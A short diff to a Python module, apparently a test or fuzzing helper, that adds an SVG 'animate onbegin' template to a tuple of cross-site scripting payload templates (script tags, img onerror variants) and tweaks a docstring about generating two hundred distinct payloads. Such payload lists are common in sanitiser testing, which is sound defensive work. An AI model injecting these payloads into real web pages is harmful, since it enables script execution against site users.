@@ -94,11 +94,12 @@ PLAIN = (
     "<script\n>{}</script\n>",
     "<img/src=x/onerror={}>",
     "<IMG SRC=x ONERROR={}>",
+    "<svg><animate onbegin={} attributeName=x dur=1s>",
 )
 
 
 def payloads():
-    """About two hundred of them, all different."""
+    """Two hundred of them, all different."""
     templates = [*TAGS, *PLAIN]
     templates += [f"{end}{tag}" for end in BREAKS for tag in TAGS[:8]]
     return [
